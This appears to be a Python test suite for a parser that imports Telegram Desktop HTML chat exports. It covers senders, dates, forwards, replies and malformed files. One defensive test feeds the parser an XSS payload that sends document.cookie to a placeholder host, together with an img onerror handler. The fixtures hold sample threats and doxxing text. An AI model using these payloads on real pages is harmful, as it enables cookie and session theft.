"""Telegram Desktop HTML exports become Posts: pages, senders, dates, entities, hostile files."""

from __future__ import annotations

import shutil
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from sources.errors import ConfigError, MalformedResponse
from sources.imports import detect_kind, parse_import
from sources.imports.telegram_html import chat_key

DATA = Path(__file__).parent / "data" / "telegram_html"
GROUP = DATA / "ChatExport_2025-03-16"
PERSONAL = DATA / "ChatExport_2021-05-24"
KZ_2025 = timezone(timedelta(hours=5))
GROUP_KEY = chat_key("Правозащита Шымкент")


def page(*messages: str, title: str = "Волонтёры Алматы") -> str:
    """A chat page in Telegram Desktop's layout around the given message blocks."""
    return (
        '<!DOCTYPE html>\n<html>\n\n <head>\n\n  <meta charset="utf-8"/>\n'
        "<title>Exported Data</title>\n </head>\n\n"
        ' <body onload="CheckLocation();">\n\n  <div class="page_wrap">\n\n'
        f'   <div class="page_header">\n    <div class="content">\n'
        f'     <div class="text bold">\n{title}\n     </div>\n    </div>\n   </div>\n\n'
        '   <div class="page_body chat_page">\n\n    <div class="history">\n'
        + "".join(messages)
        + "\n    </div>\n\n   </div>\n\n  </div>\n\n </body>\n\n</html>\n"
    )


def message(number: int, text: str, *, title: str = "24.05.2021 14:03:11 UTC+06:00") -> str:
    """One `div.message.default` block with a sender, a date title and a text div."""
    return (
        f'\n     <div class="message default clearfix" id="message{number}">\n'
        '      <div class="body">\n'
        f'       <div class="pull_right date details" title="{title}">\n14:03\n       </div>\n'
        '       <div class="from_name">\nАноним \n       </div>\n'
        f'       <div class="text">\n{text}\n       </div>\n'
        "      </div>\n     </div>\n"
    )


def write(tmp_path: Path, content: str | bytes, name: str = "messages.html") -> Path:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def test_group_export_folder_reads_every_page_in_order() -> None:
    posts = parse_import(GROUP, source_name="tg")
    assert [p.external_id for p in posts] == [
        f"tg:{GROUP_KEY}:{n}" for n in (2, 3, 5, 6, 7, 8, 11, 12, 13, 14)
    ]  # service (1, 9), photo (4), sticker (10) and voice (15) messages are skipped
    assert {p.platform for p in posts} == {"telegram_export"}
    assert [p.raw["file"] for p in posts].count("messages2.html") == 3
    first = posts[0]
    assert first.author == "Жанна Оразова" and first.source == "tg"
    assert first.created_at == datetime(2025, 3, 14, 9, 12, 5, tzinfo=KZ_2025)
    assert first.raw == {
        "import": "telegram_desktop_html",
        "file": "messages.html",
        "message_id": 2,
    }
    assert not any(p.edited for p in posts)  # HTML exports do not mark edits


def test_joined_messages_carry_the_sender_over() -> None:
    by_id = {p.raw["message_id"]: p for p in parse_import(GROUP, source_name="tg")}
    assert by_id[3].author == "Жанна Оразова"  # follows message 2
    assert by_id[5].author == "Ерлан Садыков"  # follows a media-only message of his
    assert by_id[11].author == "Жанна Оразова"  # follows her sticker
    assert by_id[13].author == "Deleted Account"


def test_text_line_breaks_links_formatting_and_entities() -> None:
    by_id = {p.raw["message_id"]: p for p in parse_import(GROUP, source_name="tg")}
    assert by_id[3].text == "Скриншоты тоже сохранила.\nАккаунт создан вчера."
    assert by_id[6].text == (
        "Жанна Оразова, мы найдём тебя.\nСмотри https://example.invalid/post/7 и молчи"
        ' & не пиши "правозащитникам" <ничего>. Последнее предупреждение.'
    )
    assert by_id[11].text == "Номер уже слили: +7 701 555 01 99 #доксинг пишет @black_channel_kz"
    assert by_id[14].text == "Это переслали из чата родителей: адрес офиса знаем 🔥"  # spoiler


def test_forwarded_and_reply_details() -> None:
    by_id = {p.raw["message_id"]: p for p in parse_import(GROUP, source_name="tg")}
    forwarded = by_id[6]
    assert forwarded.author == "Жанна Оразова"  # who forwarded it into the chat
    assert forwarded.raw["forwarded_from"] == "Тёмный Канал"  # the span with its date is not
    assert by_id[7].raw["forwarded_from"] == "Болат Жаксылыков"
    assert by_id[8].raw["forwarded_from"] == "Болат Жаксылыков"  # joined forward: carried over
    assert by_id[8].text == "Ертең кездесуге барамыз, күте тұр."
    assert by_id[5].raw["reply_to"] == 2
    assert by_id[12].raw["reply_to"] == 6  # a link into the previous page
    assert "reply_to" not in by_id[14].raw  # "In reply to a message in another chat"
    assert "forwarded_from" not in by_id[2].raw


def test_older_export_without_offset_is_read_in_the_import_zone() -> None:
    posts = parse_import(PERSONAL, source_name="tg", timezone="Asia/Almaty")
    assert [p.author for p in posts] == ["Гульнара Сейтказы", "Марат Ержанов", "Марат Ержанов"]
    assert posts[0].created_at == datetime(2021, 5, 24, 8, 3, 11, tzinfo=UTC)  # 14:03 in UTC+6
    assert posts[1].raw["forwarded_from"] == "Неизвестный"
    assert parse_import(PERSONAL, source_name="tg")[0].created_at == datetime(
        2021, 5, 24, 14, 3, 11, tzinfo=UTC
    )


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("24.05.2021 14:03:11 UTC+03:00", datetime(2021, 5, 24, 11, 3, 11, tzinfo=UTC)),
        ("24.05.2021 14:03:11 UTC-05:30", datetime(2021, 5, 24, 19, 33, 11, tzinfo=UTC)),
        ("24.05.2021 14:03:11 UTC", datetime(2021, 5, 24, 14, 3, 11, tzinfo=UTC)),
        ("24.05.2021 14:03:11", datetime(2021, 5, 24, 9, 3, 11, tzinfo=UTC)),  # Tashkent, +5
    ],
)
def test_date_titles(tmp_path: Path, title: str, expected: datetime) -> None:
    path = write(tmp_path, page(message(7, "x", title=title)))
    [post] = parse_import(path, source_name="tg", timezone="Asia/Tashkent")
    assert post.created_at == expected


def test_one_page_parses_alone_and_the_first_message_names_its_sender() -> None:
    posts = parse_import(GROUP / "messages2.html", source_name="tg")
    assert [p.author for p in posts] == ["Айгуль Темирова", "Deleted Account", "Жанна Оразова"]
    assert [p.external_id for p in posts] == [f"tg:{GROUP_KEY}:{n}" for n in (12, 13, 14)]


def test_a_later_export_of_the_same_chat_keeps_the_ids(tmp_path: Path) -> None:
    later = tmp_path / "ChatExport_2025-04-01"
    shutil.copytree(GROUP, later)
    second = later / "messages2.html"
    html = second.read_text(encoding="utf-8")
    extra = message(16, "Мы придём на ваш семинар.", title="16.03.2025 19:00:00 UTC+05:00")
    end = html.rindex("\n    </div>\n\n   </div>")
    second.write_text(html[:end] + extra + html[end:], encoding="utf-8")
    before = [p.external_id for p in parse_import(GROUP, source_name="tg")]
    after = [p.external_id for p in parse_import(later, source_name="tg")]
    assert after == [*before, f"tg:{GROUP_KEY}:16"]


def test_hostile_content_stays_inert_text(tmp_path: Path) -> None:
    hostile = (
        "<script>fetch('https://evil.invalid/?c='+document.cookie)</script>"
        '<img src=x onerror="alert(1)"><style>body{display:none}</style>'
        "&lt;script&gt;alert(2)&lt;/script&gt; ты следующая"
    )
    huge = "Угроза. " * 250_000  # 2 MB in one message
    path = write(tmp_path, page(message(1, hostile), message(2, huge)))
    first, second = parse_import(path, source_name="tg")
    assert first.text == (
        "fetch('https://evil.invalid/?c='+document.cookie)<script>alert(2)</script> ты следующая"
    )
    assert second.text == huge.strip() and len(second.text) > 1_900_000


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "messages.html line 1"),
        ("<html><body><p>Привет</p></body></html>", "not a Telegram Desktop HTML export"),
        (page(message(1, "x"))[:-300], "truncated"),
        (page(message(1, "x", title="вчера в 14:03")), "line 26: message 1: unreadable date"),
        (page(message(1, "x", title="31.02.2021 14:03:11 UTC+06:00")), "impossible date"),
        (page(message(1, "x").replace('id="message1"', 'id="msg"')), "without a numeric id"),
        (page(message(1, "x"), title=""), "no chat name"),
    ],
)
def test_malformed_or_truncated_pages_fail_clearly(
    tmp_path: Path, content: str | bytes, needle: str
) -> None:
    path = write(tmp_path, content)
    with pytest.raises(MalformedResponse, match=needle) as raised:
        parse_import(path, source_name="tg")
    assert str(raised.value).startswith("messages.html")
    assert "\n" not in str(raised.value)


def test_detection_by_file_and_folder(tmp_path: Path) -> None:
    text = (GROUP / "messages.html").read_text(encoding="utf-8")
    assert detect_kind("messages.html", text) == "telegram_html"
    assert detect_kind("export", text) == "telegram_html"  # by content, without a suffix
    with pytest.raises(ConfigError, match=r"holds no Telegram Desktop messages\.html"):
        parse_import(tmp_path, source_name="tg")
    with pytest.raises(ConfigError, match="only telegram_html"):
        parse_import(GROUP, source_name="tg", kind="csv")
    assert len(parse_import(GROUP, source_name="tg", kind="telegram_html")) == 10
